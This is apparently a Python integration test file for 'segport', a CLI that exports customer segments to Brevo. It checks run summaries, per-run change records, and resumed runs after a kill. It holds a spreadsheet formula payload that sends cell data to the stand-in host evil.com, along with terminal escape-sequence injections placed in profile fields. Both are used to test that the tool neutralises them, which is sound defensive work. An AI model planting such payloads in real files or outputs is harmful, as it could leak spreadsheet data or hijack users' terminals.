"""What a run reports, through the real command: not sent apart from sent without a field
(summary, --json, rejected.csv), the change record of each run and `segport runs`, and
data that cannot act on a terminal or in a spreadsheet."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

from tests.integration.exports.conftest import Scenario, profile
from typer.testing import CliRunner

from segport.brevo.sandbox.records import Attribute

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
ESCAPES = ("\x1b", "\x07", "\x9b", "\r")


@dataclass
class Done:
    returncode: int
    stdout: str
    stderr: str


def segport(scenario: Scenario, *args: str) -> Done:
    """`segport --workspace WS ARGS` in-process (as the entry point runs it; fast)."""
    from segport.cli import app

    result = CliRunner().invoke(app, ["--workspace", str(scenario.ws.path), *args])
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise result.exception
    return Done(result.exit_code, result.stdout, result.stderr)


def ok(scenario: Scenario, *args: str) -> str:
    done = segport(scenario, *args)
    assert done.returncode == 0, done.stdout + done.stderr
    return done.stdout


def read_csv(path: str | Path) -> list[dict[str, str]]:
    with Path(path).open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_not_sent_is_told_apart_from_sent_without_a_field(scenario: Scenario) -> None:
    # A contact already in Brevo holds the number of profile 9: Brevo reports it.
    scenario.sandbox.state.upsert_contact("holder@example.org", {"SMS": "+447911000009"})
    rows = [profile(i) for i in range(1, 10)]
    rows[0]["email"] = HYPERLINK  # 1: email_invalid (not sent), a formula in the CSV
    rows[2]["email"] = "user2@example.com"  # 3: same email as 2, which wins: not sent...
    rows[2]["phone"] = "12"  # ...so its bad phone does not make it "sent without"
    rows[4]["phone"] = "12"  # 5: phone_invalid: sent without SMS
    scenario.load(rows)
    scenario.add_export()

    dry = ok(scenario, "exports", "run", "news", "--dry-run")
    assert "would not send              2 (email_duplicate 1, email_invalid 1)" in dry
    assert "would send without a field  1 (phone_invalid 1)" in dry
    assert "rejected  " not in dry

    data = json.loads(ok(scenario, "exports", "run", "news", "--json"))
    scenario.sandbox.state.wait_idle()
    # The keys scripts already read keep their meaning...
    assert data["rejected"] == {"email_duplicate": 1, "email_invalid": 1, "phone_invalid": 2}
    assert data["rejected_total"] == 4
    assert data["brevo_failures"] == {"brevo_duplicate_phone": 1}
    # ...and the new ones tell contacts kept out from values left out.
    assert data["not_sent"] == {"email_duplicate": 1, "email_invalid": 1}
    assert data["not_sent_total"] == 2
    assert data["sent_without_field"] == {"phone_invalid": 1}
    assert data["sent_without_field_total"] == 1
    assert scenario.members() == {f"user{i}@example.com" for i in (2, 4, 5, 6, 7, 8, 9)}

    table = read_csv(data["rejected_csv"])
    assert list(table[0]) == [
        "customer_id", "email", "field", "reason", "detail", "outcome", "value"
    ]  # fmt: skip
    by_key = {(r["customer_id"], r["reason"]): r for r in table}
    assert len(by_key) == len(table) == 5
    bad_email = by_key[("1", "email_invalid")]
    assert bad_email["outcome"] == "not_sent"
    assert bad_email["email"] == bad_email["value"] == "'" + HYPERLINK  # neutralised
    assert by_key[("3", "email_duplicate")]["outcome"] == "not_sent"
    assert by_key[("3", "email_duplicate")]["value"] == "user2@example.com"
    assert by_key[("3", "phone_invalid")]["outcome"] == "not_sent"
    five = by_key[("5", "phone_invalid")]
    assert (five["outcome"], five["field"], five["value"]) == ("sent_without_field", "SMS", "12")
    brevo = by_key[("9", "brevo_duplicate_phone")]
    assert (brevo["outcome"], brevo["field"]) == ("imported_without_field", "SMS")
    assert brevo["value"] == "'+447911000009"  # the number, neutralised (it starts with +)
    assert brevo["email"] == "user9@example.com"
    assert not list(Path(data["rejected_csv"]).parent.glob("*.part"))
    assert not (Path(data["rejected_csv"]).parent / "plan-rejects.csv").exists()

    text = ok(scenario, "runs", "show", str(data["run_id"]))
    assert "not sent                 2 (email_duplicate 1, email_invalid 1)" in text
    assert "sent without a field     1 (phone_invalid 1)" in text


def _changes(path: str | Path) -> set[tuple[str, str, str]]:
    return {(r["outcome"], r["email"], r["customer_id"]) for r in read_csv(path)}


def test_each_run_keeps_its_changes_and_runs_show_lists_them(scenario: Scenario) -> None:
    rows = [profile(i) for i in range(1, 4)] + [profile(4, email="=sum@example.com")]
    scenario.load(rows)
    scenario.add_export(mode="mirror")
    first = json.loads(ok(scenario, "exports", "run", "news", "--json"))
    scenario.sandbox.state.wait_idle()
    assert first["changes"] == {"added": 4}
    assert _changes(first["changes_csv"]) == {
        ("added", "user1@example.com", "1"),
        ("added", "user2@example.com", "2"),
        ("added", "user3@example.com", "3"),
        ("added", "'=sum@example.com", "4"),  # a formula-like email, neutralised
    }
    rows[1]["first_name"] = "Renamed"  # 2 changes
    rows[2]["tier"] = "silver"  # 3 leaves the segment: mirror removes it
    scenario.load([*rows, profile(5)])  # 5 is new
    second = json.loads(ok(scenario, "exports", "run", "news", "--json"))
    scenario.sandbox.state.wait_idle()
    assert second["changes"] == {"added": 1, "updated": 1, "removed": 1}
    changes_csv = Path(second["changes_csv"])
    assert changes_csv == scenario.ws.path / "runs" / str(second["run_id"]) / "changes.csv"
    assert _changes(changes_csv) == {
        ("added", "user5@example.com", "5"),
        ("updated", "user2@example.com", "2"),
        ("removed", "user3@example.com", "3"),
    }
    run_id = str(second["run_id"])

    shown = ok(scenario, "runs", "show", run_id)
    assert f"Run {run_id} of export 'news': successful" in shown
    assert f"{changes_csv} (3 rows)" in shown
    assert str(changes_csv.parent / "rejected.csv") in shown
    record = json.loads(ok(scenario, "runs", "show", run_id, "--json"))
    history = json.loads(ok(scenario, "exports", "runs", "news", "--json"))
    same = {k: v for k, v in record.items() if k != "files"}
    assert same == next(h for h in history if h["id"] == second["run_id"])
    assert record["export_name"] == "news"
    files = {f["name"]: f for f in record["files"]}
    assert files["changes.csv"]["path"] == str(changes_csv) and files["changes.csv"]["rows"] == 3
    assert files["rejected.csv"]["rows"] == 0

    listed = json.loads(ok(scenario, "runs", "list", "--export", "news", "--json"))
    assert [r["id"] for r in listed] == [second["run_id"], first["run_id"]]
    assert "news" in ok(scenario, "runs", "list")
    # Viewers may read runs (as `exports runs`), and an unknown id is a clear error.
    ok(scenario, "users", "add", "vic", "--role", "viewer")
    assert run_id in ok(scenario, "--as", "vic", "runs", "show", run_id)
    missing = segport(scenario, "runs", "show", "999")
    assert missing.returncode == 1 and "no run 999" in missing.stderr
    assert "Traceback" not in missing.stderr
    unknown = segport(scenario, "runs", "list", "--export", "nope")
    assert unknown.returncode == 1 and "no export named 'nope'" in unknown.stderr


def _assert_clean(*outputs: str) -> None:
    for out in outputs:
        for ch in ESCAPES:
            assert ch not in out, (ch, out)


def test_data_cannot_drive_the_terminal(scenario: Scenario) -> None:
    rows = [profile(i) for i in range(1, 4)]
    rows[0]["first_name"] = "\x1b[31mRed\x1b[0m\rX"
    rows[1]["city"] = "\x1b]0;OWNED\x07Paris"
    scenario.load(rows)
    shown = ok(scenario, "profiles", "show")
    preview = ok(scenario, "segments", "preview", "gold", "--columns", "first_name,city")
    _assert_clean(shown, preview)
    assert "Red X" in preview and "Paris" in preview
    # Brevo's answers are data too: an attribute name an account may hold.
    scenario.sandbox.state.attributes["EVIL\x1b[2J"] = Attribute("EVIL\x1b[2J", "normal", "text")
    refused = segport(
        scenario,
        *("exports", "add", "x", "--connection", "sandbox", "--list-id", "1"),
        *("--segment", "gold", "--email", "email", "--attribute", "NOPE=city"),
    )
    assert refused.returncode == 1 and "EVIL" in refused.stderr
    # A rule's text values and a description are typed by users (contributors).
    created = ok(scenario, "segments", "create", "evil", "--where", "city = '\x1b]0;OWNED\x07'")
    segment = ok(scenario, "segments", "show", "evil")
    assert "OWNED" in segment
    _assert_clean(shown, preview, refused.stderr, created, segment)


def _killed(scenario: Scenario, kill_at: str, *args: str) -> None:
    """The real command in a subprocess, SIGKILLed at a named checkpoint."""
    env = {**os.environ, "SEGPORT_TEST_KILL_AT": kill_at}
    argv = ["--workspace", str(scenario.ws.path), "exports", "run", "news", *args]
    done = subprocess.run(
        [sys.executable, "-m", "segport", *argv], capture_output=True, env=env, timeout=120
    )
    assert done.returncode == -signal.SIGKILL, done.stderr


def test_a_killed_and_resumed_run_records_every_change_once(scenario: Scenario) -> None:
    """The change record of a resumed run covers what Brevo took before the kill too:
    import chunks done before it, and removal batches checkpointed before it."""
    scenario.load([profile(i) for i in range(1, 201)])
    scenario.add_export(mode="mirror")
    _killed(scenario, "done:2", "--chunk-bytes", "3000")  # ~40 contacts a chunk
    first = json.loads(ok(scenario, "exports", "run", "news", "--json"))
    assert first["resumed"] is True and first["status"] == "successful"
    rows = read_csv(first["changes_csv"])
    assert len(rows) == 200 and first["changes"] == {"added": 200}
    assert {r["email"] for r in rows} == {f"user{i}@example.com" for i in range(1, 201)}
    scenario.sandbox.state.wait_idle()

    scenario.load([profile(i) for i in range(1, 21)])  # 180 leave: 2 removal batches
    _killed(scenario, "removed:1", "--allow-mass-removal")
    second = json.loads(ok(scenario, "exports", "run", "news", "--json", "--allow-mass-removal"))
    assert second["resumed"] is True and second["status"] == "successful"
    assert second["changes"] == {"removed": 180}
    removed = read_csv(second["changes_csv"])
    assert sorted(int(r["customer_id"]) for r in removed) == list(range(21, 201))
    assert {r["outcome"] for r in removed} == {"removed"}
    scenario.sandbox.state.wait_idle()
    assert scenario.members() == {f"user{i}@example.com" for i in range(1, 21)}
